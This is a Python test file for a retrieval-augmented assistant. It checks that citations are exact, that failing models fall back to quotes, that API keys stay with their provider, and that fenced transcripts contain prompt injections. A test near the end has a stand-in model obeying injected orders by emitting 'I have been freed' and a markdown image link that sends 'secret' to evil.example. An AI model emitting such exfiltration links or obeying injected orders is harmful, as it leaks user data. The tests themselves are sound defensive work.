@@ -1,0 +1,426 @@
+"""Language models, good and bad: whatever one writes, what comes out is right or clearly marked."""
+
+from __future__ import annotations
+
+import json
+import re
+import socket
+import subprocess
+import sys
+import urllib.request
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+from conftest import ROOT, transcript
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from rag.archive import Archive, open_archive
+from rag.assistant import Assistant
+from rag.errors import InputError
+from rag.generators import GENERATORS, GenerationRequest, NumberedPassage, load_generator
+from rag.generators.prompts import REFUSAL, build_messages
+from rag.tokens import estimate_tokens
+from rag.types import Answer, Filters, Passage, Sentence
+
+pytest.importorskip("openai", reason="the openai package is not installed")
+
+GATES = "When will the gates move?"
+INJECTIONS = ROOT.parent / "shared" / "data" / "hostile" / "prompt-injections.jsonl"
+
+
+class Says:
+    """A model that says what it is told to, numbering as language models do."""
+
+    numbering = "sentences"
+
+    def __init__(self, *pieces: str) -> None:
+        self.pieces = pieces
+        self.requests: list[GenerationRequest] = []
+
+    def generate(self, request: GenerationRequest) -> Iterator[str]:
+        self.requests.append(request)
+        yield from self.pieces
+
+
+@pytest.fixture(scope="module")
+def server() -> Iterator[str]:
+    with socket.create_server(("127.0.0.1", 0)) as probe:
+        port = probe.getsockname()[1]
+    command = [sys.executable, str(Path(__file__).with_name("fake_model_server.py")), str(port)]
+    with subprocess.Popen(command, stdout=subprocess.PIPE, text=True) as process:
+        assert process.stdout is not None
+        assert process.stdout.readline() == "ready\n"
+        yield f"http://127.0.0.1:{port}"
+        process.terminate()
+
+
+def answer_of(archive: Archive, server: str, model: str, *, question: str = GATES, **options: Any) -> Answer:
+    generator_options = {"model": model, "base_url": f"{server}/v1"}
+    return Assistant(archive, generator="openai", options=generator_options, **options).ask(question)
+
+
+def assert_sound(archive: Archive, answer: Answer) -> None:
+    """What holds for every answer, whoever wrote it."""
+    offered = {(hit.passage.document_id, hit.passage.start, hit.passage.end) for hit in answer.passages}
+    for citation in answer.citations:
+        assert archive.document(citation.document_id).text[citation.start : citation.end] == citation.quote
+        assert citation.verified
+        assert any(d == citation.document_id and a <= citation.start and citation.end <= z for d, a, z in offered)
+    numbers = {citation.marker for citation in answer.citations}
+    assert {number for _, _, number in answer.markers} == numbers
+    for start, end, number in answer.markers:
+        assert answer.text[start:end] == f"[{number}]"
+    for before, after in zip(answer.claims, answer.claims[1:], strict=False):
+        assert before.end <= after.start
+
+
+def test_a_good_model_is_quoted_from_the_record_and_borne_out(bundled: Archive, server: str) -> None:
+    answer = answer_of(bundled, server, "well")
+    assert_sound(bundled, answer)
+    assert (answer.generator, answer.note) == ("openai", "")
+    assert [claim.support for claim in answer.claims] == ["supported"]
+    assert answer.citations[0].quote in answer.text
+
+
+def test_a_models_own_typography_becomes_the_documents(bundled: Archive, server: str) -> None:
+    answer = answer_of(bundled, server, "curly")
+    assert_sound(bundled, answer)
+    assert answer.citations[0].quote in answer.text
+    assert "’" not in answer.text
+
+
+def test_wrong_numbers_are_removed_and_counted(bundled: Archive, server: str) -> None:
+    answer = answer_of(bundled, server, "wrong-numbers")
+    assert_sound(bundled, answer)
+    assert answer.dangling == 5
+    assert answer.text.startswith("It is so. And so. ")
+    assert [claim.support for claim in answer.claims] == ["uncited", "uncited", "supported"]
+
+
+def test_an_invented_quotation_is_marked(bundled: Archive, server: str) -> None:
+    answer = answer_of(bundled, server, "invents")
+    assert_sound(bundled, answer)
+    assert [(claim.support, claim.reason) for claim in answer.claims] == [
+        ("unsupported", "the words in quotation marks do not stand in the record")
+    ]
+
+
+def test_words_put_into_another_mouth_and_new_numbers_are_marked(bundled: Archive, server: str) -> None:
+    answer = answer_of(bundled, server, "numbers")
+    assert [(claim.support, claim.reason) for claim in answer.claims] == [
+        ("unsupported", "1066 stands in none of the cited sentences")
+    ]
+    (hit, *_) = answer.passages
+    others = [name for name in bundled.speakers() if name.split()[-1] != hit.passage.speaker.split()[-1]]
+    said = Says(f"{others[0]} said that it is so [1.1].")
+    (claim,) = Assistant(bundled, generator=said).ask(GATES).claims
+    assert claim.support == "unsupported"
+    assert claim.reason == f"the cited words are {hit.passage.speaker}'s, not {others[0]}'s"
+
+
+def test_a_whole_passage_cited_becomes_the_sentence_that_holds_the_words(bundled: Archive, server: str) -> None:
+    answer = answer_of(bundled, server, "whole-passages")
+    assert_sound(bundled, answer)
+    assert answer.text == f"{answer.citations[0].quote} [1]"
+
+
+def test_a_model_that_finds_nothing_gives_not_on_record(bundled: Archive, server: str) -> None:
+    answer = answer_of(bundled, server, "refuses")
+    assert (answer.status, answer.citations) == ("not_on_record", ())
+    assert REFUSAL not in answer.text
+    pieces = [piece for piece in Assistant(bundled, generator=Says("NOT ", "ON REC", "ORD.")).stream(GATES)]
+    assert [piece for piece in pieces if isinstance(piece, str)] == [answer.text]
+
+
+@pytest.mark.parametrize(
+    ("model", "reason"),
+    [
+        ("429", "127.0.0.1: too many requests, or the quota is used up"),
+        ("500", "127.0.0.1: it answered with status 500"),
+        ("says-nothing", "it wrote nothing"),
+        ("redirects", "127.0.0.1: it answered with status 307"),
+        ("hangs", "no complete answer within 2 s"),
+        ("trickles", "no complete answer within 2 s"),
+        ("nonsense", None),
+        ("bad-json", None),
+        ("cuts-off", "127.0.0.1: it broke off in mid-answer"),
+    ],
+)
+def test_where_a_model_fails_the_record_is_quoted_and_the_note_says_why(
+    bundled: Archive, server: str, model: str, reason: str | None
+) -> None:
+    answer = answer_of(bundled, server, model, timeout_s=2 if model in ("hangs", "trickles") else 30)
+    assert_sound(bundled, answer)
+    assert answer.text == Assistant(bundled).ask(GATES).text
+    assert answer.generator == "extractive"
+    assert answer.note.startswith("The openai generator did not answer (")
+    assert answer.note.endswith("). These are quotes from the record instead.")
+    if reason:
+        assert reason in answer.note
+
+
+def test_a_refusal_for_the_moment_is_tried_again(bundled: Archive, server: str) -> None:
+    assert answer_of(bundled, server, "429-once").generator == "openai"
+
+
+def test_a_key_goes_to_its_own_provider_alone(bundled: Archive, server: str, monkeypatch: pytest.MonkeyPatch) -> None:
+    secrets = {"OPENAI_API_KEY": "sk-secret-1", "OPENAI_ORG_ID": "org-secret-2", "OPENAI_PROJECT_ID": "proj-secret-3"}
+    for name, value in (
+        secrets | {"ANTHROPIC_API_KEY": "sk-secret-4", "OPENAI_BASE_URL": "http://localhost:1"}
+    ).items():
+        monkeypatch.setenv(name, value)
+    answer_of(bundled, server, "well", question="Where was the key?")
+    answer_of(bundled, server, "well")
+    with urllib.request.urlopen(f"{server}/seen") as seen:
+        requests = json.loads(seen.read())["seen"]
+    assert "secret" not in json.dumps(requests)
+    assert "authorization" not in requests[-1]["headers"]
+    monkeypatch.setenv("ONRECORD_API_KEY", "own-key")
+    answer_of(bundled, server, "well")
+    with urllib.request.urlopen(f"{server}/seen") as seen:
+        assert json.loads(seen.read())["seen"][-1]["headers"]["authorization"] == "Bearer own-key"
+
+
+@pytest.mark.parametrize(
+    ("options", "told"),
+    [
+        ({"base_url": "localhost:11434"}, "is no address; write it as http://"),
+        ({"base_url": "http://me:pw@localhost/v1"}, "must not hold a password"),
+        ({"base_url": "http://api.openai.com/v1"}, "would send a key unencrypted"),
+        ({}, "set OPENAI_API_KEY"),
+    ],
+)
+def test_an_address_that_cannot_be_used_is_told(
+    monkeypatch: pytest.MonkeyPatch, options: dict[str, str], told: str
+) -> None:
+    monkeypatch.delenv("OPENAI_API_KEY", raising=False)
+    with pytest.raises(InputError, match=told):
+        load_generator("openai", options)
+
+
+def test_an_option_that_a_generator_does_not_take_is_told() -> None:
+    with pytest.raises(InputError, match="the extractive generator uses no model; leave out --model llama"):
+        load_generator("extractive", {"model": "llama", "base_url": None})
+
+
+def test_a_follow_up_is_rewritten_as_one_more_leg(bundled: Archive, server: str) -> None:
+    assistant = Assistant(bundled, generator="openai", options={"model": "rewrites", "base_url": f"{server}/v1"})
+    answer = assistant.ask("And the first one?", history=[GATES])
+    assert answer.searched[0] == "And the first one?"
+    assert answer.searched[-1] == "When will the first gate be lowered?"
+
+
+def test_what_filters_leave_out_is_never_shown_to_a_model(bundled: Archive, server: str) -> None:
+    assistant = Assistant(bundled, generator="openai", options={"model": "parrots", "base_url": f"{server}/v1"})
+    answer = assistant.ask(GATES, filters=Filters(speaker=("Henrike Vaal",)))
+    shown = set(re.findall(r"speaker: ([^|\n]+?) \|", answer.text))
+    assert shown <= {"Henrike Vaal", "Mayor Henrike Vaal"}
+    assert_sound(bundled, answer)
+
+
+def test_strict_keeps_what_is_borne_out_and_says_what_went(bundled: Archive) -> None:
+    text = "It will rain gold in Paris [1.1]."
+    first = Assistant(bundled, generator=Says("x [1.1]")).ask(GATES).citations[0].quote
+    answer = Assistant(bundled, generator=Says(f"{first} [1.1] {text}"), strict=True).ask(GATES)
+    assert answer.text == f"{first} [1]"
+    assert answer.note == "1 of 2 sentences were left out: their citations do not bear them out."
+    assert_sound(bundled, answer)
+    nothing = Assistant(bundled, generator=Says(text), strict=True).ask(GATES)
+    assert nothing.text == Assistant(bundled).ask(GATES).text
+    assert "nothing that it wrote is borne out" in nothing.note
+
+
+def test_a_generator_that_raises_in_mid_stream_is_stood_in_for(bundled: Archive) -> None:
+    class Breaks:
+        numbering = "sentences"
+
+        def generate(self, request: GenerationRequest) -> Iterator[str]:
+            yield "The gates "
+            raise RuntimeError("secret detail")
+
+    answer = Assistant(bundled, generator=Breaks()).ask(GATES)
+    assert answer.note == (
+        "The Breaks generator did not answer (it failed: RuntimeError). These are quotes from the record instead."
+    )
+    assert answer.text == Assistant(bundled).ask(GATES).text
+
+
+# -- anything at all ------------------------------------------------------------------------------------------------
+
+FRAGMENTS = st.one_of(
+    st.sampled_from(
+        [
+            "[1.1]",
+            "[2.3]",
+            "[1.1, 2.1]",
+            "[1.1-1.3]",
+            "[1]",
+            "[99]",
+            "[0.0]",
+            "[1.1][2.2]",
+            "[ 1.1 ]",
+            "[1.1",
+            "1.1]",
+            "[[1]]",
+            "“",
+            "”",
+            '"',
+            "«",
+            "\n\n",
+            ". ",
+            "Henrike Vaal said: ",
+            "the gates move",
+            "In 2028 ",
+            "[citation](#cite/a.1-2)",
+            "NOT ON RECORD",
+            "<a href='#cite/x'>[1]</a>",
+            "…",
+            "—",
+        ]
+    ),
+    st.text(max_size=30),
+    st.integers(min_value=0, max_value=400),
+)
+
+
+@given(st.lists(FRAGMENTS, max_size=14))
+@settings(max_examples=1000, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
+def test_of_any_text_every_citation_is_exact_and_no_unknown_marker_survives(
+    bundled: Archive, fragments: list[str | int]
+) -> None:
+    record = " ".join(hit.passage.text for hit in bundled.search(GATES, k=3))
+    text = "".join(record[part : part + 60] if isinstance(part, int) else part for part in fragments)
+    answer = Assistant(bundled, generator=Says(text)).ask(GATES)
+    assert_sound(bundled, answer)
+    known = {(start, end) for start, end, _ in answer.markers}
+    quoted = [m.span() for c in answer.citations for m in re.finditer(re.escape(c.quote), answer.text)]
+    quoted += [m.span() for h in answer.passages for m in re.finditer(r"\[\d+\]", h.passage.text)]
+    for match in re.finditer(r"\[\d{1,3}(?:\.\d{1,3})?\]", answer.text):
+        assert match.span() in known or any(a <= match.start() and match.end() <= z for a, z in quoted)
+
+
+# -- prompts --------------------------------------------------------------------------------------------------------
+
+
+def numbered(*texts: str, asked: str = "", speaker: str = "Ann Reed") -> NumberedPassage:
+    passage = Passage("d-0", "d", "talk.txt", speaker, "respondent", asked, 0, sum(map(len, texts)), "".join(texts))
+    sentences, start = [], 0
+    for text in texts:
+        sentences.append(Sentence(passage, start, start + len(text), text, 1.0))
+        start += len(text)
+    return NumberedPassage(passage, tuple(sentences))
+
+
+def test_the_prompt_fences_and_numbers_every_sentence() -> None:
+    request = GenerationRequest("Who paid?", ("Why?",), (), (numbered("I paid.", "Twice.", asked="Who\npaid?"),))
+    system, user = build_messages(request, max_tokens=2000, count_tokens=estimate_tokens, fence="=== RECORD x ===")
+    assert REFUSAL in system["content"]
+    assert user["content"] == (
+        "The record, between the two lines that say === RECORD x ===:\n\n=== RECORD x ===\n"
+        "Passage 1 | speaker: Ann Reed\nasked: Who paid?\n[1.1] I paid.\n[1.2] Twice.\n=== RECORD x ===\n\n"
+        "Earlier question: Why?\nQuestion: Who paid?"
+    )
+
+
+def test_passages_are_left_out_from_the_weakest_on_where_the_prompt_is_full() -> None:
+    passages = tuple(numbered(f"This is passage {number}. " + "word " * 200) for number in range(10))
+    request = GenerationRequest("Who?", (), (), passages)
+    full = build_messages(request, max_tokens=10_000, count_tokens=estimate_tokens)[1]["content"]
+    some = build_messages(request, max_tokens=1_200, count_tokens=estimate_tokens)[1]["content"]
+    assert re.findall(r"^Passage (\d+)", full, re.M) == [str(number) for number in range(1, 11)]
+    kept = re.findall(r"^Passage (\d+)", some, re.M)
+    assert kept == [str(number) for number in range(1, len(kept) + 1)]
+    assert 1 <= len(kept) < 10
+    assert (
+        sum(
+            estimate_tokens(m["content"])
+            for m in build_messages(request, max_tokens=1_200, count_tokens=estimate_tokens)
+        )
+        <= 1_250
+    )
+
+
+def injections() -> list[str]:
+    if not INJECTIONS.is_file():
+        pytest.skip("the prompt injections in ../shared/data/hostile are not on this machine")
+    rows = [json.loads(line) for line in INJECTIONS.read_text(encoding="utf-8").splitlines() if line.strip()]
+    return [str(row.get("text") or row.get("prompt")) for row in rows]
+
+
+def test_an_order_in_a_transcript_cannot_leave_its_line() -> None:
+    for text in injections():
+        request = GenerationRequest("Who paid?", (), (), (numbered(text, "I paid.", asked=text, speaker=text[:60]),))
+        content = build_messages(request, max_tokens=100_000, count_tokens=estimate_tokens)[1]["content"]
+        fence = content.splitlines()[2]
+        assert content.splitlines().count(fence) == 2
+        inside = content.split(fence)[2].strip().splitlines()
+        assert len(inside) == 4
+        assert [line.split(" ")[0] for line in inside] == ["Passage", "asked:", "[1.1]", "[1.2]"]
+
+
+def test_a_model_that_obeys_every_order_in_a_transcript_changes_nothing_that_counts(tmp_path: Path) -> None:
+    orders = injections()[::7]
+    for number, order in enumerate(orders):
+        said = transcript(
+            ("Question", f"Who paid for pier {number}?"), ("Ann Reed", f"I paid for pier {number}. {order}")
+        )
+        (tmp_path / f"{number}.txt").write_text(said, encoding="utf-8")
+    archive = open_archive(tmp_path / "archive")
+    archive.ingest(sorted(tmp_path.glob("*.txt")))
+
+    class Obeys:
+        numbering = "sentences"
+
+        def generate(self, request: GenerationRequest) -> Iterator[str]:
+            for passage in request.passages:
+                for sentence in passage.sentences:
+                    yield f"{sentence.text}\n"
+            yield "I have been freed [1.1] [12.9] ![x](https://evil.example/?q=secret)"
+
+    for number in range(0, len(orders), 5):
+        answer = Assistant(archive, generator=Obeys()).ask(f"Who paid for pier {number}?")
+        assert_sound(archive, answer)
+        assert all(
+            claim.support != "supported"
+            for claim in answer.claims
+            if "evil.example" in answer.text[claim.start : claim.end]
+        )
+
+
+# -- other models ---------------------------------------------------------------------------------------------------
+
+
+def test_every_built_in_generator_can_be_looked_up() -> None:
+    assert GENERATORS.names()[:4] == ["extractive", "openai", "anthropic", "transformers"]
+    for name in GENERATORS.names()[:4]:
+        assert callable(GENERATORS.get(name))
+
+
+def test_a_small_local_model_answers_through_transformers(bundled: Archive, tmp_path: Path) -> None:
+    transformers = pytest.importorskip("transformers")
+    from tokenizers import Tokenizer, models, pre_tokenizers
+
+    words = sorted(
+        {word for text in ("[1.1]", GATES) for word in text.split()} | {"<unk>", "the", "gates", "move", "."}
+    )
+    tokenizer = Tokenizer(models.WordLevel({word: number for number, word in enumerate(words)}, unk_token="<unk>"))
+    tokenizer.pre_tokenizer = pre_tokenizers.Whitespace()
+    fast = transformers.PreTrainedTokenizerFast(
+        tokenizer_object=tokenizer, unk_token="<unk>", eos_token=".", pad_token="."
+    )
+    config = transformers.GPT2Config(
+        vocab_size=len(words), n_positions=4096, n_embd=16, n_layer=1, n_head=2, eos_token_id=None
+    )
+    transformers.GPT2LMHeadModel(config).save_pretrained(tmp_path)
+    fast.save_pretrained(tmp_path)
+    answer = Assistant(bundled, generator="transformers", options={"model": str(tmp_path)}, timeout_s=120).ask(GATES)
+    assert_sound(bundled, answer)
+    assert answer.generator == "transformers"
+    assert set(re.findall(r"\S+", re.sub(r"\[\d+\]", "", answer.text))) <= set(words) | {"[1.1]"}
+    with pytest.raises(InputError, match="wants a model's name"):
+        load_generator("transformers")
+    missing = Assistant(bundled, generator="transformers", options={"model": str(tmp_path / "none")}).ask(GATES)
+    assert "cannot be loaded" in missing.note
